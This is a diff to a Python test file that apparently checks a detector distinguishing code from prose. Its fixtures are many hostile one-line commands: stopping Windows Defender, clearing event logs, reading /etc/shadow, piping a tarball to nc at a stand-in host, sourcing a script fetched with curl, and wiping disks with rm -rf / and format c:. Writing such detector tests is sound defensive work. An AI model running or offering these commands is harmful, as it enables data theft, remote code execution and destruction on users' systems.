@@ -43,7 +43,8 @@ CODE = {
         "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
         "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "md \"%APPDATA%\\a\"\n", "hh https://h.example/a.chm\n", "sc \\\\h create a\n", "mshta https://h.example/a\n",
-        "echo start calc|cmd\n", "start /min a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
+        "echo start calc|cmd\n", "net use * \\\\h.example\\s\n", "reg add HKCU\\a /v b\n", "ftp -s:a.txt\n", "notepad\ncalc\n", "msg * a\n", "del /q a\n",
+        "start /min a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
         "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
         "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
@@ -68,7 +69,7 @@ CODE = {
         "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
         "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
-        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n",
+        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n", "find . -name '*.key' -delete\n", "cat a.b /etc/passwd\n", "alias ls='rm a'\n", "alias a='b;c'\n",
         "until curl -s h.example; do sleep 1; done\n", "alias ls='rm -rf ~'\n", "find / -name \"*.pem\" -exec cp {} /tmp \\;\n",
         "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
@@ -117,6 +118,9 @@ def test_code_is_known_by_its_statements(what: str, name: str) -> None:
     "Open https://h.example/form and fill in the form\nFind more about it at https://h.example/help\n", "Python 3.9. See https://h.example/1\n",
     "Service desk: https://h.example/\nOpen /Library/Printers\nExport to /home/share on Monday\n", "my (own) notes\nmy $5 fee\n",
     "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n", "Dim sum\nSet lunch 120\n",
+    "until we meet again\nopen the gate -she said\ncat and mouse - a tale\nfind me https://h.example\n", "alias team=\"Lin, Chen\"\n",
+    "FTP charge /y\nREG fee /m\nNET start 100\nRD /a\nSC \"x\"\nHH https://h.example\n", "COPY\t/m\nTYPE\t-a\nmove /a 30\n", "calc\n120\n= 240\n",
+    "<lin> try [x for x in y] there\n<chen> or this => { ok; }\n", "$fee = \"12.00\"\n$rate = \"3 %\"\n", "$myhostname = 'mx.bank.example';\n",
     "A write-output device; filter press-room (new)\n", "The [ref] assembly, the function get-together (Friday)\n", "$=~ costs; a = [] + []\n",
 ])
 @pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"])
@@ -125,7 +129,7 @@ def test_words_that_look_like_code_a_little(text: str, name: str) -> None:
 
 
 @pytest.mark.parametrize("code", [
-    "<script>\nif (window.matchMedia) {\n a();\n}\n</script>", "<script>\nfunction show(id) {\n a(id)\n}\n</script>", "<pre>\n$a = \"b\";\n</pre>",
+    "<script>\nif (window.matchMedia) {\n a();\n}\n</script>", "<script>\nfunction show(id) {\n a(id)\n}\n</script>", "<pre>\n$a = \"b\";\n$c = \"$a\";\n</pre>",
     "<pre>\nrm -f /tmp/x\n</pre>", "<pre>\nnet stop spooler\n</pre>"])
 def test_a_page_is_no_script_whatever_its_name(code: str) -> None:
     def found(page: str) -> list[str]:
